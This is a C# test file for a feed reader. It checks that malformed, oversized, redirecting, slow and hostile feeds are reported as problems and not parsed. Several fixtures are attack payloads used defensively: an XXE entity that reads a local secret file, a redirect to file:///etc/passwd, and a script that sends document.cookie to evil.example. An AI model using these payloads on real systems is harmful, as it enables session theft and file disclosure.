using System.Diagnostics;
using System.Text;
using CmPortal.Modules.Inbox.Sources.Feeds;

namespace CmPortal.Tests.Inbox;

/// <summary>
/// The "bad input" for feeds, each against a real local server: a broken feed is a problem the source shows
/// (what went wrong, how to fix), never an exception, and never a feed the portal half-reads.
/// </summary>
public sealed class FeedSafetyTests : IAsyncLifetime
{
    private FeedTestServer _server = null!;

    public async Task InitializeAsync() => _server = await FeedTestServer.StartAsync();
    public async Task DisposeAsync() => await _server.DisposeAsync();

    private const string SmallRss = """
        <?xml version="1.0" encoding="utf-8"?>
        <rss version="2.0"><channel><title>Blog</title>
        <item><title>Bonjour</title><link>https://blog.example/bonjour</link><guid>b-1</guid><description>Un billet.</description></item>
        </channel></rss>
        """;

    [Fact]
    public async Task Malformed_xml_is_reported_with_its_line_never_thrown()
    {
        _server.Serve("/broken.xml", "application/rss+xml", "<?xml version=\"1.0\"?>\n<rss version=\"2.0\"><channel>\n<item><title>Unclosed</item>\n</channel></rss>");

        var fetch = await FeedTestServer.Reader().FetchAsync(_server.Url("/broken.xml"));

        Assert.False(fetch.Succeeded);
        Assert.Empty(fetch.Items);
        Assert.StartsWith("The feed is not valid XML", fetch.Problem!.Template);
        Assert.Equal(3, fetch.Problem.Values[0]);
        Assert.Equal("url", fetch.Problem.Field);
    }

    [Fact]
    public async Task A_web_page_is_refused_and_its_alternate_feed_address_suggested()
    {
        _server.Serve("/blog", "text/html; charset=utf-8", """
            <!DOCTYPE html><html><head><title>Le blog</title>
            <link rel="stylesheet" href="/site.css">
            <link rel="alternate" type="application/rss+xml" title="Flux" href="/blog/feed.xml">
            </head><body><h1>Le blog</h1></body></html>
            """);
        _server.Serve("/plain-page", "text/html", "<html><body><p>Rien ici</p></body></html>");
        _server.Serve("/mislabelled.xml", "text/html; charset=utf-8", SmallRss); // A server that labels its RSS as a page.

        var suggested = await FeedTestServer.Reader().FetchAsync(_server.Url("/blog"));
        var plain = await FeedTestServer.Reader().FetchAsync(_server.Url("/plain-page"));
        var mislabelled = await FeedTestServer.Reader().FetchAsync(_server.Url("/mislabelled.xml"));

        Assert.Equal("This address is a web page, not a feed. The page names its feed: use {0}.", suggested.Problem!.Template);
        Assert.Equal(_server.Url("/blog/feed.xml"), suggested.Problem.Values[0]);
        Assert.StartsWith("This address is a web page, not a feed. Look on the site", plain.Problem!.Template);
        Assert.Equal("Bonjour", Assert.Single(mislabelled.Items).Title);
    }

    [Fact]
    public async Task A_50_MB_feed_is_stopped_at_the_cap_while_reading_even_without_content_length()
    {
        var chunk = Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("<item><title>x</title><description>padding padding</description></item>\n", 1000)));
        var served = new TaskCompletionSource<long>(TaskCreationOptions.RunContinuationsAsynchronously);
        _server.Map("/huge.xml", async context =>
        {
            context.Response.ContentType = "application/rss+xml"; // Chunked: no Content-Length to refuse early on.
            await _server.WriteAsync(context, Encoding.UTF8.GetBytes("<?xml version=\"1.0\"?><rss version=\"2.0\"><channel>"));
            try
            {
                // Kestrel drops writes silently once the client hung up and signals it a moment later: a short pause
                // per chunk lets that signal arrive, so the count is what the reader really took.
                while (_server.BytesSent < 50L * 1024 * 1024 && !context.RequestAborted.IsCancellationRequested)
                {
                    await _server.WriteAsync(context, chunk);
                    await context.Response.Body.FlushAsync(context.RequestAborted);
                    await Task.Delay(1, context.RequestAborted);
                }
                if (!context.RequestAborted.IsCancellationRequested) await _server.WriteAsync(context, Encoding.UTF8.GetBytes("</channel></rss>"));
            }
            catch (Exception e) when (e is OperationCanceledException or IOException) { } // The reader hung up: the point.
            served.SetResult(_server.BytesSent);
        });

        var fetch = await FeedTestServer.Reader().FetchAsync(_server.Url("/huge.xml"));

        Assert.Equal("The feed is larger than {0} MB, the most the portal reads. Use a smaller feed of the site (one category or one search).", fetch.Problem!.Template);
        Assert.Equal(5.0, fetch.Problem.Values[0]);
        var sent = await served.Task.WaitAsync(TimeSpan.FromSeconds(10));
        Assert.True(sent < 20L * 1024 * 1024, $"the reader let the server send {sent} bytes");
    }

    [Fact]
    public async Task A_declared_content_length_above_the_cap_is_refused_before_reading()
    {
        _server.Serve("/big.xml", "application/rss+xml", new byte[2 * 1024 * 1024]);

        var fetch = await FeedTestServer.Reader(new FeedReaderOptions { MaxBytes = 1024 * 1024 }).FetchAsync(_server.Url("/big.xml"));

        Assert.StartsWith("The feed is larger than {0} MB", fetch.Problem!.Template);
        Assert.Equal(1.0, fetch.Problem.Values[0]);
    }

    [Fact]
    public async Task A_redirect_loop_is_detected_and_redirects_are_capped_at_five()
    {
        _server.Redirect("/a.xml", "/b.xml");
        _server.Redirect("/b.xml", _server.Url("/a.xml"), 301);
        for (var i = 1; i <= 7; i++) _server.Redirect($"/hop{i}.xml", $"/hop{i + 1}.xml");
        _server.Serve("/hop8.xml", "application/rss+xml", SmallRss);
        for (var i = 1; i <= 5; i++) _server.Redirect($"/ok{i}.xml", i == 5 ? "/final.xml" : $"/ok{i + 1}.xml");
        _server.Serve("/final.xml", "application/rss+xml", SmallRss);

        var loop = await FeedTestServer.Reader().FetchAsync(_server.Url("/a.xml"));
        var tooMany = await FeedTestServer.Reader().FetchAsync(_server.Url("/hop1.xml"));
        var fiveHops = await FeedTestServer.Reader().FetchAsync(_server.Url("/ok1.xml"));

        Assert.StartsWith("The feed redirects in a loop", loop.Problem!.Template);
        Assert.Equal(_server.Url("/a.xml"), loop.Problem.Values[0]);
        Assert.StartsWith("The feed redirects more than {0} times", tooMany.Problem!.Template);
        Assert.DoesNotContain(_server.Requests, r => r.Path == "/hop7.xml");
        Assert.True(fiveHops.Succeeded, fiveHops.Problem?.ToString());
        Assert.Equal("Bonjour", Assert.Single(fiveHops.Items).Title);
    }

    [Fact]
    public async Task Only_http_and_https_addresses_and_redirect_targets_are_followed()
    {
        _server.Redirect("/to-file.xml", "file:///etc/passwd");

        var file = await FeedTestServer.Reader().FetchAsync("file:///etc/passwd");
        var ftp = await FeedTestServer.Reader().FetchAsync("ftp://example.org/feed.xml");
        var redirected = await FeedTestServer.Reader().FetchAsync(_server.Url("/to-file.xml"));

        Assert.StartsWith("The feed address must be a full web address", file.Problem!.Template);
        Assert.StartsWith("The feed address must be a full web address", ftp.Problem!.Template);
        Assert.StartsWith("The feed redirects to {0}, which is not a web address", redirected.Problem!.Template);
    }

    [Fact]
    public async Task An_xxe_attempt_is_refused_and_the_entity_never_resolves()
    {
        var secret = Path.Combine(Path.GetTempPath(), $"feed-secret-{Guid.NewGuid():N}.txt");
        await File.WriteAllTextAsync(secret, "TOP-SECRET-VALUE");
        try
        {
            _server.Serve("/xxe.xml", "application/rss+xml", $"""
                <?xml version="1.0"?>
                <!DOCTYPE rss [ <!ENTITY xxe SYSTEM "file://{secret}"> <!ENTITY remote SYSTEM "{_server.Url("/dtd-fetched")}"> ]>
                <rss version="2.0"><channel><title>x</title><item><title>&xxe;</title><description>&remote;</description></item></channel></rss>
                """);

            var fetch = await FeedTestServer.Reader().FetchAsync(_server.Url("/xxe.xml"));

            Assert.StartsWith("The feed contains a DTD", fetch.Problem!.Template);
            Assert.Empty(fetch.Items);
            Assert.DoesNotContain(_server.Requests, r => r.Path == "/dtd-fetched");
            Assert.DoesNotContain("TOP-SECRET", fetch.ToString());
        }
        finally
        {
            File.Delete(secret);
        }
    }

    [Fact]
    public async Task A_feed_in_iso_8859_1_or_windows_1252_is_read_in_the_charset_it_declares()
    {
        Encoding.RegisterProvider(CodePagesEncodingProvider.Instance);
        var latin1 = Encoding.Latin1.GetBytes("""
            <?xml version="1.0" encoding="ISO-8859-1"?>
            <rss version="2.0"><channel><title>Été</title>
            <item><title>Crème brûlée à Noël</title><guid>l-1</guid><description>Ça coûte 5 euros ? Non : déjà payé.</description></item>
            </channel></rss>
            """);
        var cp1252 = Encoding.GetEncoding(1252).GetBytes("""
            <rss version="2.0"><channel><title>Œuvres</title>
            <item><title>L’œuvre “phare” – 10 €</title><guid>w-1</guid><description>Ébauche…</description></item>
            </channel></rss>
            """);
        _server.Serve("/latin1.xml", "application/rss+xml", latin1); // Only the XML declaration names the charset.
        _server.Serve("/cp1252.xml", "application/rss+xml; charset=windows-1252", cp1252); // Only the HTTP header does.

        var fromDeclaration = await FeedTestServer.Reader().FetchAsync(_server.Url("/latin1.xml"));
        var fromHeader = await FeedTestServer.Reader().FetchAsync(_server.Url("/cp1252.xml"));

        Assert.Equal("Crème brûlée à Noël", Assert.Single(fromDeclaration.Items).Title);
        Assert.Equal("Été", fromDeclaration.FeedTitle);
        Assert.Equal("L’œuvre “phare” – 10 €", Assert.Single(fromHeader.Items).Title);
        Assert.Equal("Ébauche…", fromHeader.Items[0].Text);
    }

    [Fact]
    public async Task A_feed_that_does_not_answer_in_time_is_a_timeout_problem()
    {
        _server.Map("/slow.xml", async context => await Task.Delay(TimeSpan.FromSeconds(30), context.RequestAborted));
        _server.Map("/slow-body.xml", async context =>
        {
            context.Response.ContentType = "application/rss+xml";
            await _server.WriteAsync(context, Encoding.UTF8.GetBytes("<rss version=\"2.0\"><channel>"));
            await context.Response.Body.FlushAsync(context.RequestAborted);
            await Task.Delay(TimeSpan.FromSeconds(30), context.RequestAborted); // Headers at once, the body never ends.
        });
        var reader = FeedTestServer.Reader(new FeedReaderOptions { Timeout = TimeSpan.FromSeconds(1) });

        var watch = Stopwatch.StartNew();
        var headers = await reader.FetchAsync(_server.Url("/slow.xml"));
        var body = await reader.FetchAsync(_server.Url("/slow-body.xml"));

        Assert.Equal("The feed did not answer within {0} seconds. Check that the site is up; the portal will try again later.", headers.Problem!.Template);
        Assert.Equal(1, headers.Problem.Values[0]);
        Assert.StartsWith("The feed did not answer within", body.Problem!.Template);
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(10), $"took {watch.Elapsed}");
    }

    [Fact]
    public async Task Script_tags_in_an_item_are_dropped_and_the_rest_stored_as_plain_text()
    {
        _server.Serve("/scripts.xml", "application/rss+xml", """
            <rss version="2.0"><channel><title>Forum</title>
            <item><guid>s-1</guid>
              <title>&lt;script&gt;alert('t')&lt;/script&gt;Avis &lt;i&gt;Lumen&lt;/i&gt;</title>
              <description><![CDATA[<p>J'adore &amp; je recommande&nbsp;!</p><script>document.location='https://evil.example/?c='+document.cookie</script><style>p{color:red}</style><img src=x onerror="alert(1)"><p>Signé   Léa</p>]]></description>
              <link>javascript:alert(1)</link>
            </item></channel></rss>
            """);

        var item = Assert.Single((await FeedTestServer.Reader().FetchAsync(_server.Url("/scripts.xml"))).Items);

        Assert.Equal("Avis Lumen", item.Title);
        Assert.Equal("J'adore & je recommande\u00a0! Signé Léa", item.Text);
        Assert.DoesNotContain("evil", item.Text);
        Assert.DoesNotContain("<", item.Text);
        Assert.Null(item.Url); // A javascript: link is no link.
    }

    [Fact]
    public async Task A_server_error_or_an_unreachable_host_is_a_problem_not_an_exception()
    {
        _server.Map("/down.xml", context => { context.Response.StatusCode = 503; return Task.CompletedTask; });
        using var listener = new System.Net.Sockets.TcpListener(System.Net.IPAddress.Loopback, 0);
        listener.Start();
        var closedPort = ((System.Net.IPEndPoint)listener.LocalEndpoint).Port;
        listener.Stop(); // Nothing listens there any more.

        var down = await FeedTestServer.Reader().FetchAsync(_server.Url("/down.xml"));
        var unreachable = await FeedTestServer.Reader().FetchAsync($"http://127.0.0.1:{closedPort}/feed.xml");
        var notAFeed = await FeedTestServer.Reader().FetchAsync(_server.Url("/missing.xml"));

        Assert.StartsWith("The feed's server answered {0}", down.Problem!.Template);
        Assert.Equal(503, down.Problem.Values[0]);
        Assert.StartsWith("The feed could not be reached", unreachable.Problem!.Template);
        Assert.Equal(404, notAFeed.Problem!.Values[0]);
    }

    [Fact]
    public async Task Conditional_get_sends_the_validators_and_a_304_means_not_modified()
    {
        const string etag = "\"v42\"";
        const string lastModified = "Mon, 30 Nov 2026 08:00:00 GMT";
        _server.Map("/cond.xml", async context =>
        {
            if (context.Request.Headers.IfNoneMatch == etag) { context.Response.StatusCode = 304; return; }
            context.Response.ContentType = "application/rss+xml";
            context.Response.Headers.ETag = etag;
            context.Response.Headers.LastModified = lastModified;
            await _server.WriteAsync(context, Encoding.UTF8.GetBytes(SmallRss));
        });
        var reader = FeedTestServer.Reader();

        var first = await reader.FetchAsync(_server.Url("/cond.xml"));
        var second = await reader.FetchAsync(_server.Url("/cond.xml"), first.ETag, first.LastModified);

        Assert.False(first.NotModified);
        Assert.Single(first.Items);
        Assert.Equal(etag, first.ETag);
        Assert.Equal(lastModified, first.LastModified);
        Assert.True(second.NotModified);
        Assert.True(second.Succeeded);
        Assert.Empty(second.Items);
        Assert.Equal(etag, second.ETag);
        var conditional = _server.Requests.Last();
        Assert.Equal(etag, conditional.Headers.IfNoneMatch.ToString());
        Assert.Equal(lastModified, conditional.Headers.IfModifiedSince.ToString());
    }

    [Fact]
    public async Task Xml_that_is_no_feed_and_json_that_is_no_json_feed_are_explained()
    {
        _server.Serve("/sitemap.xml", "application/xml", "<?xml version=\"1.0\"?><urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\"><url><loc>https://a.example/</loc></url></urlset>");
        _server.Serve("/api.json", "application/json", "{\"data\": [1, 2]}");
        _server.Serve("/broken.json", "application/feed+json", "{\"version\": \"https://jsonfeed.org/version/1.1\", \"items\": [");

        var sitemap = await FeedTestServer.Reader().FetchAsync(_server.Url("/sitemap.xml"));
        var api = await FeedTestServer.Reader().FetchAsync(_server.Url("/api.json"));
        var broken = await FeedTestServer.Reader().FetchAsync(_server.Url("/broken.json"));

        Assert.StartsWith("This address gives an XML document that is not a feed", sitemap.Problem!.Template);
        Assert.Equal("urlset", sitemap.Problem.Values[0]);
        Assert.StartsWith("This address gives JSON that is not a JSON Feed", api.Problem!.Template);
        Assert.StartsWith("The feed is not valid JSON", broken.Problem!.Template);
    }
}
